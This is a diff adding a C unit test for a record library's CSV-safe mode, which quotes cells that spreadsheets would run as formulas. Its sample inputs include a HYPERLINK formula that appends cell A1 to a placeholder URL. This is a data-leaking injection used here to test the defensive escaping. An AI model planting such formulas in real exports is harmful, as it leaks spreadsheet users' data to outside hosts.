@@ -135,6 +135,78 @@ numbers_like_printf(void)
 	ok(bad == 0, "numbers as printf writes them: %ld of %ld differ", bad, n);
 }
 
+/* String cells that a spreadsheet would run as formulas, beside numbers and a time that
+ * look like them, written with flags; as a string. */
+static char *
+formulas(int format, unsigned flags)
+{
+	static const rota_column cols[] = {
+		{ "ticket", ROTA_COL_STRING }, { "gap", ROTA_COL_NUMBER }, { "at", ROTA_COL_STRING }
+	};
+	static const char *const cells[] = {
+		"=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+1", "-1", "@SUM(A1:A9)",
+		"\tx", "\rx", "=", "a=b", "'=quoted", "", " =x",
+	};
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+	rota_record *r = rota_record_new(f, format, cols, 3, flags);
+	for (size_t i = 0; i < sizeof cells / sizeof *cells; i++) {
+		rota_record_str(r, cells[i]);
+		rota_record_int(r, -5 - (int64_t)i);
+		rota_record_time(r, 0, rota_tz_utc());
+		rota_record_end(r);
+	}
+	rota_record_strn(r, "=x\0=y", 5);   /* the NUL ends the cell */
+	rota_record_real(r, -2.5, 1);
+	rota_record_end(r);
+	rota_error err = { 0 };
+	rota_record_finish(r, &err);
+	fclose(f);
+	return buf;
+}
+
+static void
+csv_safe(void)
+{
+	const char *t = ",1970-01-01T00:00:00+00:00\n";
+	char exp[2048];
+	snprintf(exp, sizeof exp,
+	         "ticket,gap,at\n"
+	         "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\",-5%s"
+	         "'+1,-6%s'-1,-7%s'@SUM(A1:A9),-8%s'\tx,-9%s\"'\rx\",-10%s'=,-11%s"
+	         "a=b,-12%s'=quoted,-13%s,-14%s =x,-15%s'=x,-2.5,\n",
+	         t, t, t, t, t, t, t, t, t, t, t);
+	char *s = formulas(ROTA_FORMAT_CSV, ROTA_RECORD_CSV_SAFE);
+	is_str(s, exp, "csv safe: = + - @ TAB CR lead with ', numbers and times untouched");
+	free(s);
+	snprintf(exp, sizeof exp,
+	         "ticket,gap,at\n"
+	         "\"=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\",-5%s"
+	         "+1,-6%s-1,-7%s@SUM(A1:A9),-8%s\tx,-9%s\"\rx\",-10%s=,-11%s"
+	         "a=b,-12%s'=quoted,-13%s,-14%s =x,-15%s=x,-2.5,\n",
+	         t, t, t, t, t, t, t, t, t, t, t);
+	s = formulas(ROTA_FORMAT_CSV, 0);
+	is_str(s, exp, "csv by default: exact, formula leads as data");
+	free(s);
+	char *a = formulas(ROTA_FORMAT_JSON, 0), *b = formulas(ROTA_FORMAT_JSON, ROTA_RECORD_CSV_SAFE);
+	is_str(b, a, "json: the flag changes nothing");
+	ok(strstr(a, "{\"ticket\":\"=HYPERLINK(") != NULL, "json: the formula as data");
+	free(a);
+	free(b);
+	a = formulas(ROTA_FORMAT_TEXT, 0);
+	b = formulas(ROTA_FORMAT_TEXT, ROTA_RECORD_CSV_SAFE);
+	is_str(b, a, "text: the flag changes nothing");
+	free(a);
+	free(b);
+	s = formulas(ROTA_FORMAT_CSV, ROTA_RECORD_CSV_SAFE | ROTA_RECORD_NO_HEADER);
+	ok(strncmp(s, "\"'=HYPERLINK(", 13) == 0, "csv safe without header");
+	free(s);
+	s = capture(rota_csv_put, "=1+1");
+	is_str(s, "=1+1", "rota_csv_put stays exact (rejects echo their input)");
+	free(s);
+}
+
 int
 main(void)
 {
@@ -216,5 +288,6 @@ main(void)
 	is_str(buf, "{\n  \"a\": [\n    1,\n    2\n  ]\n}\n", "json printer, indented");
 	free(buf);
 	numbers_like_printf();
+	csv_safe();
 	return tap_done();
 }
